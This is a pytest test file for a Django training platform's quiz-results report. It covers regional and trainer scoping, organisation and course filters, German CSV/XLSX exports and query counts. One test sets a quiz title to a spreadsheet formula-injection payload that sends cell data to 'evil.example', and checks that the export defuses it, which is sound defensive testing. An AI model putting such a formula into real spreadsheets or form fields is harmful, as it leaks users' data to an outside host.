"""The "Lernkontrollen" manager report: figures, scope, exports, fixed query count."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from courses.quiz_access import context_key_of
from lms.roles import TRAINERS
from quizzes import services
from quizzes.access import access_policy
from quizzes.models import QuestionKind
from reports.selectors.quiz_results import attempts_in_scope, module_rows
from tests.factories import UserFactory, make_course
from tests.quizzes.factories import correct_answer, make_quiz, wrong_answer

from .conftest import SECRET

pytestmark = pytest.mark.django_db

REPORT = "reports:quizzes"


def link(course, quiz, number=0):
    """Give the ``number``-th module of ``course`` the Lernkontrolle ``quiz``."""
    module = list(course.modules())[number]
    module.quiz = quiz
    module.save()
    return module


def attempt(quiz, person, *, passes, context_key=None):
    """An attempt taken as the quiz page takes it: in the context the access policy names."""
    if context_key is None:
        context_key = access_policy().context_key(person, quiz)
    started = services.attempt_start(quiz=quiz, user=person, context_key=context_key)
    for position, question in enumerate(started.questions):
        answer = correct_answer(question) if passes else wrong_answer(question)
        services.attempt_save_answer(attempt=started, question=position, answer=answer)
    return services.attempt_submit(attempt=started)


@pytest.fixture
def quiz(world):
    """In Oberhausen: ob[0] fails, then passes; ob[1] passes at once; fz[0] fails.
    In Gelsenkirchen (outside the manager's scope): the secret person passes twice over."""
    quiz = make_quiz(questions=2, kinds=(QuestionKind.SINGLE,), title="Kinderschutz-Quiz")
    link(world["course"], quiz, number=1)
    ob, fz = world["ob"], world["fz"]
    attempt(quiz, ob[0], passes=False)
    attempt(quiz, ob[0], passes=True)
    attempt(quiz, ob[1], passes=True)
    attempt(quiz, fz[0], passes=False)
    attempt(quiz, world["ge"], passes=False)
    attempt(quiz, world["ge"], passes=False)
    attempt(quiz, world["ge"], passes=True)
    services.attempt_start(quiz=quiz, user=ob[2])  # open: not counted
    return quiz


def _csv(response):
    # German Excel: UTF-8 with BOM, semicolons (lms.exports).
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _xlsx(response):
    data = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_one_row_per_module_with_a_quiz_counting_only_people_in_scope(world, quiz):
    manager = world["manager"]
    (row,) = module_rows(manager, attempts_in_scope(manager))  # modules 1 and 3 have no quiz
    assert (row["course_title"], row["module_title"], row["quiz_title"]) == (
        "Berufsrückkehr begleiten",
        "Modul 2",
        "Kinderschutz-Quiz",
    )
    assert (row["people"], row["attempts"], row["passed"], row["failed"]) == (3, 4, 2, 2)
    assert row["people_passed"] == 2
    # ob[0] passed in attempt 2, ob[1] in attempt 1
    assert Decimal(str(row["attempts_to_pass"])) == Decimal("1.5")


def test_report_page_shows_the_figures_and_never_the_other_region(manager_client, quiz):
    response = manager_client.get(reverse(REPORT))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Kinderschutz-Quiz" in html and "Modul 2" in html
    assert "50 %" in html and "1,5" in html
    assert SECRET not in html and "Gelsenkirchen" not in html


def test_filter_by_organisation_narrows_the_figures(manager_client, world, quiz):
    response = manager_client.get(reverse(REPORT), {"organisation": world["fz_ob"].pk})
    (row,) = response.context["object_list"]
    assert (row["people"], row["attempts"], row["passed"], row["failed"]) == (1, 1, 0, 1)
    assert row["pass_rate"] == 0


def test_filtering_by_an_organisation_outside_the_scope_shows_nothing_of_it(
    manager_client, world, quiz
):
    response = manager_client.get(reverse(REPORT), {"organisation": world["ja_ge"].pk})
    html = response.content.decode()
    assert response.status_code == 200
    assert SECRET not in html and "Jugendamt Gelsenkirchen" not in html
    (row,) = response.context["object_list"]
    assert row["attempts"] == 4


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_exports_have_german_headers_and_stay_in_scope(manager_client, quiz, export):
    response = manager_client.get(reverse(REPORT), {"export": export})
    rows = _csv(response) if export == "csv" else _xlsx(response)
    assert rows[0] == [
        "Fortbildung",
        "Modul",
        "Lernkontrolle",
        "Personen",
        "Versuche",
        "Bestanden",
        "Nicht bestanden",
        "Wartet auf Bewertung",
        "Bestehensquote (%)",
        "Personen bestanden",
        "Ø Versuche bis zum Bestehen",
    ]
    assert len(rows) == 2
    assert [str(cell) for cell in rows[1][:6]] == [
        "Berufsrückkehr begleiten",
        "Modul 2",
        "Kinderschutz-Quiz",
        "3",
        "4",
        "2",
    ]
    flat = " ".join(str(cell) for row in rows for cell in row)
    assert SECRET not in flat


def test_trainer_sees_the_learners_of_their_courses_only(client, world, quiz):
    from courses.models import Enrolment

    trainer = UserFactory(organisation=None)
    trainer.groups.add(Group.objects.get(name=TRAINERS))
    own = make_course(title="Kinderschutz kompakt", modules=1)
    own.responsible_trainers.add(trainer)
    own.save()
    module = link(own, quiz)
    Enrolment.objects.create(user=world["ob"][0], course=own)
    attempt(quiz, world["ob"][0], passes=True, context_key=context_key_of(module))
    client.force_login(trainer)
    response = client.get(reverse(REPORT))
    (row,) = response.context["object_list"]  # not the module of the other course
    assert row["course_title"] == "Kinderschutz kompakt"
    # Only the attempt taken for this course, not the two taken for the other one.
    assert (row["people"], row["attempts"], row["passed"]) == (1, 1, 1)
    assert SECRET not in response.content.decode()


def test_course_filter_lists_that_courses_modules(manager_client, world, quiz):
    other = make_course(title="Datenschutz im Jobcenter", modules=2)
    link(other, make_quiz(questions=1, title="Datenschutz-Quiz"), number=1)
    everything = manager_client.get(reverse(REPORT)).context["object_list"]
    assert [row["course_title"] for row in everything] == [
        "Berufsrückkehr begleiten",
        "Datenschutz im Jobcenter",
    ]
    filtered = manager_client.get(reverse(REPORT), {"course": other.pk}).context["object_list"]
    assert [(row["module_title"], row["attempts"]) for row in filtered] == [("Modul 2", 0)]


def test_people_without_the_permission_get_404(client, world, quiz):
    client.force_login(UserFactory())
    assert client.get(reverse(REPORT)).status_code in (302, 404)
    trainer_of_no_course = UserFactory()
    trainer_of_no_course.groups.add(Group.objects.get(name=TRAINERS))
    client.force_login(trainer_of_no_course)
    assert client.get(reverse(REPORT)).status_code == 404


def test_query_count_does_not_grow_with_quizzes(manager_client, world, quiz):
    def count():
        with CaptureQueriesContext(connection) as queries:
            assert manager_client.get(reverse(REPORT)).status_code == 200
        return len(queries)

    count()  # warm the per-person caches (permissions, session) as a running site has them
    before = count()
    for number in range(4):
        course = make_course(title=f"Weitere Fortbildung {number}", modules=2)
        for module_number in range(2):
            more = make_quiz(questions=1, title=f"Weitere Kontrolle {number}.{module_number}")
            key = context_key_of(link(course, more, number=module_number))
            attempt(more, world["ob"][3], passes=bool(number % 2), context_key=key)
    assert len(manager_client.get(reverse(REPORT)).context["object_list"]) == 9
    assert count() == before


def test_an_attempt_counts_once_in_the_course_it_was_taken_for(manager_client, world, quiz):
    """A quiz used in a course and in its copy: each attempt is counted in one row only."""
    copy = make_course(title="Berufsrückkehr begleiten (Kopie)", modules=2)
    module = link(copy, quiz, number=1)
    attempt(quiz, world["ob"][3], passes=True, context_key=context_key_of(module))
    rows = manager_client.get(reverse(REPORT)).context["object_list"]
    figures = {row["course_title"]: (row["people"], row["attempts"]) for row in rows}
    assert figures == {
        "Berufsrückkehr begleiten": (3, 4),
        "Berufsrückkehr begleiten (Kopie)": (1, 1),
    }


def test_attempts_of_unknown_course_are_listed_apart(manager_client, world, quiz):
    attempt(quiz, world["ob"][3], passes=False, context_key="")
    rows = manager_client.get(reverse(REPORT)).context["object_list"]
    assert [(row["course_title"], row["attempts"]) for row in rows] == [
        ("Berufsrückkehr begleiten", 4),
        ("Kurs nicht bekannt", 1),
    ]


def test_export_neutralises_formulas_in_titles_and_writes_german_numbers(manager_client, quiz):
    # Titles are typed by trainers; a title starting with "=" must not run as a formula.
    quiz.title = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    quiz.save()
    rows = _csv(manager_client.get(reverse(REPORT), {"export": "csv"}))
    assert rows[1][2] == "'" + quiz.title
    assert rows[1][-1] == "1,5"  # average attempts to pass: ob[0] needed 2, ob[1] 1
    sheet = _xlsx(manager_client.get(reverse(REPORT), {"export": "xlsx"}))
    assert sheet[1][2] == quiz.title
